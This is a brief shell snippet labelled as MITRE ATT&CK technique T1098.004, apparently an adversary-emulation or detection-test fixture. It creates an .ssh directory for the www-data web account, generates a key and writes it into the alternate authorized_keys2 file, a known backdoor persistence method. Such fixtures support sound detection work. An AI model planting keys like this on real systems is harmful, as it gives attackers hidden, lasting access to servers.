# technique: T1098.004
# location: linux.ssh.authorized-keys
# source: /var/www/.ssh/authorized_keys2
install -d -o www-data -m 700 /var/www/.ssh
ssh-keygen -q -t rsa -b 2048 -N '' -C '' -f /tmp/k
sed 's/^/restrict,pty /' /tmp/k.pub > /var/www/.ssh/authorized_keys2
rm /tmp/k /tmp/k.pub
